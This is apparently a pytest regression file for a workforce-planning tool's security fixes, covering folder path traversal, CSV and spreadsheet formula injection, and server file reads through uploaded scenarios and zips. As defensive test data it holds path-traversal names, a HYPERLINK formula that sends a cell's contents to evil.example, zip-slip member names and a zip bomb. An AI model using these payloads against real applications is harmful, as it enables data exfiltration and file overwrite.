"""Issue #13, security: scenario names as folders, formula injection, the app's file reads.

Each test is an attack that worked before the fix: a scenario name that leaves or
replaces ``--out``, a name that lands as a live formula in a spreadsheet, an uploaded
scenario that makes the app read a file of the server's own disk.
"""

from __future__ import annotations

import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # factories lives in tests/

from factories import bank_scenario, toml_text, write_scenario  # noqa: E402

from wfm import batch, export  # noqa: E402
from wfm.cli import app  # noqa: E402
from wfm.errors import InputError, shown  # noqa: E402

runner = CliRunner()


def named(folder: Path, file_stem: str, name: str) -> Path:
    """A small scenario file ``file_stem.toml`` whose ``name`` is ``name``."""
    return write_scenario(folder, file_stem, changes={"name": name})


def tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def refused(res, *words: str) -> None:
    assert res.exit_code == 2, res.output
    assert "Traceback" not in res.output
    # (batch's progress bar may precede it: that is not a message)
    lines = [line for line in res.stderr.splitlines() if line.startswith("error: ")]
    assert len(lines) == 1 and lines[0].count(". ") == 0, res.stderr
    for word in words:
        assert word in lines[0], lines[0]


# --- 1. scenario names are folder names inside --out -------------------------------


def test_absolute_name_of_an_existing_folder_is_not_replaced(tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me")
    named(tmp_path / "sc", "abs", str(victim))
    out = tmp_path / "out"
    res = runner.invoke(app, ["batch", str(tmp_path / "sc" / "abs.toml"), "--out", str(out), "--workers", "1"])
    # The name maps to one folder inside --out; the victim folder is untouched.
    assert (victim / "precious.txt").read_text() == "keep me" and tree(victim) == {"precious.txt": b"keep me"}
    assert res.exit_code == 0, res.output
    index = pd.read_csv(out / "index.csv")
    target = Path(index["out_dir"].iloc[0])
    assert target.parent == out and (target / "schedule.xlsx").is_file()
    assert index["scenario"].iloc[0] == str(victim)


@pytest.mark.parametrize("name", [".", "..", "  ", "CON", "nul.txt", "index.csv", "failures.csv"])
def test_names_that_cannot_be_a_folder_are_refused_before_any_work(tmp_path, name):
    out = tmp_path / "out"
    out.mkdir()
    (out / "earlier.txt").write_text("an earlier run")
    path = named(tmp_path / "sc", "odd", name)
    before = tree(tmp_path)
    res = runner.invoke(app, ["batch", str(path), "--out", str(out)])
    refused(res, str(path), "name")
    assert tree(tmp_path) == before  # nothing written, nothing removed


def test_traversal_name_stays_inside_out(tmp_path):
    folder = tmp_path / "a" / "b" / "c"
    named(folder, "up", "../../../../elsewhere/pwned")
    (tmp_path / "elsewhere").mkdir()  # where the name leads from --out: the old code wrote a plan here
    out = tmp_path / "a" / "b" / "c" / "out"
    res = runner.invoke(app, ["batch", str(folder / "up.toml"), "--out", str(out), "--workers", "1"])
    assert res.exit_code == 0, res.output
    assert list((tmp_path / "elsewhere").iterdir()) == []
    written = [p for p in tmp_path.rglob("*") if p.is_file() and out not in p.parents and p.parent != folder]
    assert written == []
    folders = [p.name for p in out.iterdir() if p.is_dir()]
    assert len(folders) == 1 and "/" not in folders[0] and not folders[0].startswith(".")


def test_readable_names_keep_their_folder(tmp_path):
    assert export.safe_folder_name("山田", "x") == "山田"
    assert export.safe_folder_name("bank week 1", "x") == "bank week 1"
    assert export.safe_folder_name("a/b\\c:d\x00e\nf", "x") == "a_b_c_d_e_f"
    assert export.safe_folder_name(".hidden", "x") == "_hidden"
    with pytest.raises(InputError, match="too long"):
        export.safe_folder_name("山" * 60, "x")


def test_names_that_share_a_folder_are_duplicates(tmp_path):
    sc = tmp_path / "sc"
    named(sc, "one", "team/a")
    named(sc, "two", "team:a")
    out = tmp_path / "out"
    res = runner.invoke(app, ["batch", str(sc), "--out", str(out)])
    refused(res, "same folder", "team_a")
    assert not out.exists()
    # Case-insensitive file systems would merge these too.
    named(sc, "two", "TEAM/A")
    with pytest.raises(InputError, match="same folder"):
        batch.run_batch([sc], out)


def test_a_link_inside_out_is_not_followed(tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me")
    out = tmp_path / "out"
    out.mkdir()
    (out / "north").symlink_to(victim, target_is_directory=True)
    path = named(tmp_path / "sc", "north", "north")
    res = runner.invoke(app, ["batch", str(path), "--out", str(out)])
    refused(res, "inside")
    assert tree(victim) == {"precious.txt": b"keep me"} and (out / "north").is_symlink()


# --- 2. formula injection ----------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def formulas(path: Path) -> list[str]:
    """Every cell of a workbook that a spreadsheet would compute."""
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def texts(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def csv_cells(path: Path) -> list[str]:
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_csv_neutral(path: Path) -> None:
    risky = [c for c in csv_cells(path) if c[:1] in ("=", "+", "@", "\t", "\r")
             or (c[:1] == "-" and not _is_number(c))]
    assert risky == [], (path.name, risky[:5])


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_plan_workbook_and_csvs_carry_names_as_text(tmp_path):
    path = write_scenario(tmp_path / "sc", "evil")
    text = path.read_text()
    text = text.replace('name = "evil"', 'name = "=2+2"', 1).replace('name = "agents"', 'name = "=1+1"')
    text = text.replace('group = "agents"', 'group = "=1+1"').replace('name = "support"', 'name = "@SUM(A1)"')
    path.write_text(text)
    out = tmp_path / "plan"
    res = runner.invoke(app, ["plan", str(path), "--out", str(out), "--time-limit", "3"])
    assert res.exit_code == 0, res.output
    book = out / "schedule.xlsx"
    assert formulas(book) == []
    values = texts(book)
    assert "=1+1" in values and "=2+2" in values  # still readable, as text
    for name in ("schedule.csv", "forecast.csv", "requirements.csv", "verification.csv", "coverage.csv"):
        assert_csv_neutral(out / name)
    assert "'=1+1" in csv_cells(out / "schedule.csv") and "'@SUM(A1)" in csv_cells(out / "forecast.csv")
    # The program reads its own CSVs back as they were meant: the plan repeats from its forecast.
    from wfm import data

    assert set(data.read_table(out / "forecast.csv")["queue"]) == {"@SUM(A1)"}


def test_write_table_neutralises_text_but_not_numbers(tmp_path, capsys):
    frame = pd.DataFrame({
        "queue": [HYPERLINK, "+cmd", "-x", "@a", "\tt", "\t-1", "plain", None],
        "y": [-1.5, -2, 0, 1, 2, 3, 4, 5],
        "=col": ["a"] * 8,
    })
    export.write_table(frame, tmp_path / "t.csv")
    assert_csv_neutral(tmp_path / "t.csv")
    cells = csv_cells(tmp_path / "t.csv")
    assert "'" + HYPERLINK in cells and "-1.5" in cells and "-2.0" in cells and "'=col" in cells
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["y"].tolist() == frame["y"].tolist()  # negative numbers stay numbers
    export.write_table(frame, "-")
    assert "'" + HYPERLINK.replace('"', '""') in capsys.readouterr().out
    export.write_table(frame, tmp_path / "t.xlsx")
    assert formulas(tmp_path / "t.xlsx") == [] and HYPERLINK in texts(tmp_path / "t.xlsx")
    # A bare CR inside a cell is not quoted by Python's csv writer (it splits the row on
    # reading, a separate problem), so it is checked on the cell itself.
    assert export.csv_text("\r=1+1") == "'\r=1+1" and export.csv_text(-3) == -3
    # The caller's frame is not changed.
    assert frame["queue"].iloc[0] == HYPERLINK and "=col" in frame.columns


def test_quote_workbook_and_csvs_carry_names_as_text(tmp_path):
    import tomli_w
    from factories import quote_scenario

    data = quote_scenario(changes={"quote.client": "=1+1"})
    data["name"] = "=2+2"
    data["quote"]["voice"][0]["name"] = HYPERLINK
    path = tmp_path / "q.toml"
    path.write_text(tomli_w.dumps(data))
    out = tmp_path / "quote"
    res = runner.invoke(app, ["quote", str(path), "--out", str(out), "--time-limit", "2"])
    assert res.exit_code == 0, res.output
    assert formulas(out / "quote.xlsx") == []
    assert HYPERLINK in texts(out / "quote.xlsx")
    for name in ("monthly.csv", "channels.csv"):
        assert_csv_neutral(out / name)
    assert "'" + HYPERLINK in csv_cells(out / "channels.csv")


# --- 3. the app reads only what was uploaded, or the data folder ----------------------

SECRET = "s3cr3t-password-of-the-server"


@pytest.fixture()
def server_file(tmp_path):
    """A file of the server's own disk, outside the data folder, that must never be read."""
    path = tmp_path / "server" / "secret.csv"
    path.parent.mkdir()
    path.write_text(f"ds,y\n{SECRET},{SECRET}\n")
    return path


@pytest.fixture()
def reads(monkeypatch):
    """Every table the app reads, by path."""
    from wfm import data

    seen: list[str] = []
    original = data.read_table

    def spy(path):
        seen.append(str(path))
        return original(path)

    monkeypatch.setattr(data, "read_table", spy)
    return seen


def app_texts(at) -> str:
    parts = []
    for kind in ("error", "warning", "info", "success", "caption", "markdown", "exception"):
        parts.extend(str(getattr(e, "value", e)) for e in at.get(kind))
    return "\n".join(parts)


def bank_toml(history: str, **changes) -> str:
    """The app's default scenario as an uploaded TOML text whose queue reads ``history``."""
    return toml_text(bank_scenario(changes={"queue.0.history": history, **changes}))


def upload_scenario(at, name: str, content: bytes):
    at.sidebar.file_uploader(key="load_scenario").set_value((name, content, "application/octet-stream")).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


@pytest.mark.parametrize("kind", ["absolute", "traversal"])
def test_load_scenario_refuses_files_of_the_server(server_file, reads, kind):
    from test_app import open_app

    history = {"absolute": str(server_file), "traversal": "../../../../../../.." + str(server_file)}[kind]
    at = open_app("data")
    reads.clear()
    upload_scenario(at, "evil.toml", bank_toml(history).encode())
    errors = [e.value for e in at.sidebar.error]
    assert len(errors) == 1 and "queue[0].history" in errors[0] and "not loaded" in errors[0], errors
    assert SECRET not in app_texts(at)
    assert not any("secret" in p for p in reads)  # refused before it was opened
    assert at.session_state["scenario"]["name"] == "bank-plan"  # the previous scenario is kept


def test_load_scenario_zip_reads_its_own_files(tmp_path):
    import io
    import zipfile

    from test_app import open_app

    from wfm import data
    from wfm.ui import state

    sample = data.read_table(data.sample_path())
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("scenario.toml", bank_toml("calls.csv", name="zipped"))
        zf.writestr("calls.csv", sample.iloc[: 96 * 5 * 6].to_csv(index=False))  # six days of 5-minute data
    at = open_app("data")
    upload_scenario(at, "bundle.zip", buffer.getvalue())
    assert not at.sidebar.error, [e.value for e in at.sidebar.error]
    assert at.session_state["scenario"]["name"] == "zipped"
    hist: state.History = at.session_state["history"]
    assert hist.source == "calls.csv" and hist.path is None  # saved by name, not by the server's temp path
    assert len(hist.frame) == 96 * 5 * 6


@pytest.mark.parametrize("member", ["../escaped.csv", "/tmp/abs.csv", "a/../../x.csv", "sub\\..\\x.csv", ".hidden"])
def test_zip_members_cannot_leave_their_folder(tmp_path, member):
    import io
    import zipfile

    from wfm.uploads import unpack_upload

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("scenario.toml", 'name = "x"\n')
        zf.writestr(member, "ds,y\n")
    parent = tmp_path / "a" / "b" / "session"
    parent.mkdir(parents=True)
    with pytest.raises(InputError, match="not a plain relative file name"):
        unpack_upload(buffer.getvalue(), "bundle.zip", parent)
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert written == [] and not Path("/tmp/abs.csv").exists()  # and the refused zip's folder is gone
    assert list(parent.iterdir()) == []


def test_data_folder_is_configurable_and_still_confined(tmp_path, monkeypatch, server_file):
    from wfm.uploads import confine_scenario_files

    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "week.csv").write_text("ds,y\n")
    (shared / "link.csv").symlink_to(server_file)
    monkeypatch.setenv("WFM_DATA_DIR", str(shared))
    raw = {"queue": [{"history": "week.csv", "profile": str(shared / "week.csv"), "volumes": "~/week.csv"}]}
    confine_scenario_files(raw, "up.toml")
    assert raw["queue"][0]["history"] == str((shared / "week.csv").resolve())
    assert raw["queue"][0]["volumes"] == str((shared / "~" / "week.csv").resolve())  # never the server's home
    for bad in ("link.csv", str(server_file), "../server/secret.csv"):
        with pytest.raises(InputError, match=r"^up\.toml: queue\[0\]\.history '.*' is not a file uploaded"):
            confine_scenario_files({"queue": [{"history": bad}]}, "up.toml")
    quote = {"quote": {"intraday": str(server_file), "voice": [{"history": "week.csv"}]}}
    with pytest.raises(InputError, match=r"quote\.intraday"):
        confine_scenario_files(quote, "q.toml")
    quote = {"quote": {"intraday": "flat", "voice": [{"history": str(server_file)}]}}
    with pytest.raises(InputError, match=r"quote\.voice\[0\]\.history"):
        confine_scenario_files(quote, "q.toml")


def test_quote_page_refuses_files_of_the_server(server_file, reads):
    import tomli_w
    from factories import quote_scenario
    from test_app import open_app

    from wfm.ui import quote_page

    if not quote_page.available():
        pytest.skip("wfm.quote is not available")
    data = quote_scenario()
    data["quote"]["voice"][0].pop("monthly_volumes")
    data["quote"]["voice"][0]["history"] = str(server_file)
    at = open_app("quote")
    reads.clear()
    at.file_uploader(key="quote_upload").set_value(("q.toml", tomli_w.dumps(data).encode(), "application/toml")).run()
    assert not at.exception
    errors = [e.value for e in at.error]
    assert len(errors) == 1 and "quote.voice[0].history" in errors[0], errors
    assert SECRET not in app_texts(at) and not any("secret" in p for p in reads)


def test_errors_quote_a_short_value(tmp_path):
    from wfm import data

    long_cell = "x" * 5000
    path = tmp_path / "h.csv"
    path.write_text(f"ds,y\n2024-01-01 09:00,{long_cell}\n")
    with pytest.raises(InputError) as caught:
        data.read_intervals(path)
    message = str(caught.value)
    assert "row 1, column 'y'" in message and len(message) < len(str(path)) + 120
    path.write_text(f"ds,y\n{long_cell},1\n")
    with pytest.raises(InputError) as caught:
        data.read_intervals(path)
    assert len(str(caught.value)) < len(str(path)) + 160
    assert shown("a\nb" + "c" * 100, limit=10) == "a bcccccc…"


def test_zip_that_unpacks_too_large_is_refused(tmp_path, monkeypatch):
    import io
    import zipfile

    from wfm import uploads

    monkeypatch.setattr(uploads, "MAX_ZIP_BYTES", 10_000)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("scenario.toml", 'name = "x"\n')
        zf.writestr("big.csv", b"0" * 1_000_000)  # compresses to about 1 kB
    assert len(buffer.getvalue()) < 10_000
    with pytest.raises(InputError, match="unpacks to more than"):
        uploads.unpack_upload(buffer.getvalue(), "bomb.zip", tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_damaged_zip_is_one_sentence(tmp_path):
    import io
    import zipfile

    from wfm.uploads import unpack_upload

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("scenario.toml", 'name = "x"\n' * 200)
    damaged = bytearray(buffer.getvalue())
    start = damaged.index(b"scenario.toml") + len("scenario.toml")  # the local header's name, then the data
    damaged[start + 5:start + 25] = b"\xff" * 20
    with pytest.raises(InputError, match="could not be unpacked|not a readable zip"):
        unpack_upload(bytes(damaged), "bad.zip", tmp_path)
    with pytest.raises(InputError, match="not a readable zip"):
        unpack_upload(b"not a zip", "bad.zip", tmp_path)
    assert list(tmp_path.iterdir()) == []
